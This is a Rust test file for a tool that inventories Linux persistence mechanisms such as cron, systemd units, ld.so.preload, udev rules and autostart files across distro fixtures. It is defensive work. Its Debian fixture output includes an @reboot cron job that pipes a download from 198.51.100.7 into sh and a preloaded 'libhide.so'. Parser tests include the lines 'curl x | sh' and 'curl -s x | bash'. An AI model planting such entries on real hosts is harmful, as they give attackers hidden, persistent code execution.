use std::fs;
use std::sync::Mutex;

use expect_test::expect;
use model::time::Timestamp;

use super::*;
use crate::collect::hash_cache::HashCache;
use crate::packages::PackageIndex;

fn fixture(host: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/hosts").join(host)
}

fn collect_root(path: &Path) -> Collected {
    let root = HostRoot::new(path).unwrap();
    let mut packages = PackageIndex::default();
    packages.refresh(&root);
    let hashes = Mutex::new(HashCache::default());
    super::collect(&Context::new(&root, &packages, &hashes, Timestamp(0)))
}

fn lines(collected: &Collected) -> String {
    let word = |row: &Row, column: &str| match row.get(column) {
        None => "-".to_owned(),
        Some(it) => it.as_str().map_or_else(|| it.to_string(), str::to_owned),
    };
    let columns =
        ["kind", "path", "command", "schedule", "user", "enabled", "package", "unpackaged"];
    let rows = collected.rows.iter().map(|row| columns.map(|it| word(row, it)).join(" | "));
    let skipped = collected.skipped.iter().map(|it| format!("skipped {it}"));
    rows.chain(skipped).collect::<Vec<_>>().join("\n") + "\n"
}

#[test]
fn debian() {
    expect![[r#"
        at | /var/spool/cron/atjobs/a0000101c4b3f0 | /home/alice/bin/backup.sh | 2026-05-30T00:16:00Z | 1000 | true | - | true
        cron | /etc/cron.d/backup | PGPASSWORD=*** /home/alice/bin/backup.sh >> /var/log/backup.log 2>&1 | 30 2 * * *; 30 14 * * * | alice | true | - | true
        cron | /etc/cron.d/backup | sh -c 'curl -s http://198.51.100.7/x | sh' | @reboot | www-data | true | - | true
        cron | /etc/cron.daily/logs | /etc/cron.daily/logs | daily | root | true | - | true
        cron | /etc/crontab | cd / && run-parts --report /etc/cron.hourly | 17 * * * * | root | true | cron | -
        cron | /var/spool/cron/crontabs/root | /usr/sbin/sshd -t | */5 * * * * | root | true | - | false
        desktop | /etc/xdg/autostart/agent.desktop | /opt/updater/run %u | desktop log-in | - | false | - | true
        init_script | /etc/init.d/ssh | /etc/init.d/ssh | boot | root | false | openssh-server | false
        kernel_module | /etc/modules-load.d/own.conf | - | boot | - | true | - | -
        ld_preload | /etc/ld.so.preload | /lib/x86_64-linux-gnu/libc.so.6 | every program | - | true | - | false
        ld_preload | /etc/ld.so.preload | /usr/lib/libhide.so | every program | - | true | - | true
        shell_start | /etc/profile.d/own.sh | /etc/profile.d/own.sh | log-in | - | true | - | true
        shell_start | /home/alice/.bashrc | - | log-in | alice | true | - | -
        systemd_service | /etc/systemd/system/updater.service | /opt/updater/run --token=*** | - | root | true | - | true
        systemd_service | /lib/systemd/system/nginx.service | /usr/sbin/nginx -g 'daemon on;' | - | root | false | nginx | false
        systemd_service | /lib/systemd/system/redis-server.service | /usr/bin/redis-server /etc/redis/redis.conf  --supervised systemd | - | cache | false | redis-server | false
        systemd_service | /lib/systemd/system/ssh.service | /usr/sbin/sshd -D $SSHD_OPTS; /usr/sbin/sshd -t | - | root | true | openssh-server | false
        systemd_timer | /etc/systemd/system/updater.timer | updater.service | OnCalendar=hourly | - | true | - | -
        udev | /etc/udev/rules.d/99-usb.rules | /opt/updater/run --usb | device event | root | true | - | true
        skipped /etc/crontab:6: no job and no variable
    "#]].assert_eq(&lines(&collect_root(&fixture("debian12"))));
}

#[test]
fn rocky() {
    expect![[r#"
        anacron | /etc/anacrontab | nice run-parts /etc/cron.daily | 1 5 | root | true | - | -
        cron | /var/spool/cron/root | /usr/sbin/httpd -t | 0 3 * * 0 | root | true | - | false
        systemd_service | /usr/lib/systemd/system/sshd.service | /usr/sbin/sshd -D $OPTIONS | - | root | true | openssh-server | false
    "#]].assert_eq(&lines(&collect_root(&fixture("rocky9"))));
}

#[test]
fn alpine() {
    expect![[r#"
        cron | /etc/crontabs/root | run-parts /etc/periodic/15min | */15 * * * * | root | true | - | -
        init_script | /etc/init.d/sshd | /etc/init.d/sshd | boot | root | true | openssh-server | false
    "#]].assert_eq(&lines(&collect_root(&fixture("alpine3"))));
}

#[test]
fn programs_of_shell_lines() {
    for (line, expected) in [
        ("/usr/bin/foo -c /etc/foo.conf >> /var/log/foo 2>&1", "/usr/bin/foo"),
        (
            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
            "run-parts",
        ),
        ("A=1 nice -n 5 /opt/x; B=2 timeout 30 python3 -u /srv/job.py --all", "/opt/x /srv/job.py"),
        ("command -v debian-sa1 > /dev/null && debian-sa1 1 1", "debian-sa1"),
        ("[ -x /usr/bin/m ] && if [ -d /a ]; then /usr/bin/m /a; fi", "/usr/bin/m"),
        ("sh -c 'curl x | sh'", "inline"),
        ("curl -s x | bash", "/bin/bash? curl"),
        ("$HOME/x; ~/y; `z`", ""),
        ("echo \"a; /b\" # /c", ""),
        (
            ". /etc/default/x && flock -n /run/l /usr/local/bin/y 'a b'",
            "/etc/default/x /usr/local/bin/y",
        ),
        ("'unclosed quote", "unclosed quote"),
        ("a\\ b", "a b"),
        (">", ""),
    ] {
        let found = command::of_shell(line);
        let mut text: Vec<_> = found
            .iter()
            .map(|it| match it {
                Program::File(path) => path.clone(),
                Program::Inline => "inline".to_owned(),
            })
            .collect();
        text.sort();
        let expected = if expected.starts_with("/bin/bash?") {
            "bash curl".to_owned()
        } else {
            expected.to_owned()
        };
        assert_eq!(text.join(" "), expected, "{line}");
    }
}

#[test]
fn unit_files() {
    let mut unit = systemd::Unit::default();
    unit.add("a", b"\xff\n[Service]\nExecStart=/a\nExecStart=\nExecStart=@/b b \\\n# note\n  c\nUser=x\n[Install]\n");
    unit.add("b", b"[Service]\nUser=y\nno setting\n[Timer]\nOnBootSec=5\n");
    assert_eq!(unit.commands(), ["/b b  c"]);
    assert_eq!(unit.last("Service", "User"), Some("y"));
    assert_eq!(unit.schedule().as_deref(), Some("OnBootSec=5"));
    assert_eq!(
        unit.skipped,
        ["a:1: neither a section nor a setting", "b:3: neither a section nor a setting"]
    );
    assert_eq!(systemd::template_of("getty@tty1.service").as_deref(), Some("getty@.service"));
    assert_eq!(systemd::template_of("getty@.service"), None);
}

#[test]
fn odd_tables_are_survived() {
    for bytes in [
        &b""[..],
        b"\xff\xfe\x00",
        b"* * * *",
        b"@",
        b"\n\n\n",
        b"\"",
        b"RUN+=\"",
        b"a=b",
        "日 本 語 の 表 計".as_bytes(),
    ] {
        tables::crontab("t", bytes, true);
        tables::crontab("t", bytes, false);
        tables::anacrontab("t", bytes);
        tables::at_job(bytes);
        tables::udev_programs(bytes);
        tables::desktop(bytes);
        tables::list(bytes, &[':']);
        systemd::Unit::default().add("u", bytes);
        command::of_shell(&String::from_utf8_lossy(bytes));
    }
    assert_eq!(tables::at_time("a0000101c4b3f0"), Some(29_668_336 * 60));
    assert_eq!(tables::at_time("日本語日本"), None);
    let root = tempfile::tempdir().unwrap();
    let at = |path: &str| root.path().join(path);
    fs::create_dir_all(at("etc/cron.d")).unwrap();
    fs::create_dir_all(at("etc/systemd/system/x.service")).unwrap();
    std::os::unix::fs::symlink("loop", at("etc/cron.d/loop")).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        at("etc/crontab"),
        rustix::fs::FileType::Fifo,
        0o644.into(),
        0,
    )
    .unwrap();
    let collected = collect_root(root.path());
    assert!(collected.rows.is_empty());
    assert!(
        collected.skipped.iter().any(|it| it.text.contains("/etc/crontab is a FIFO")),
        "{:?}",
        collected.skipped
    );
}
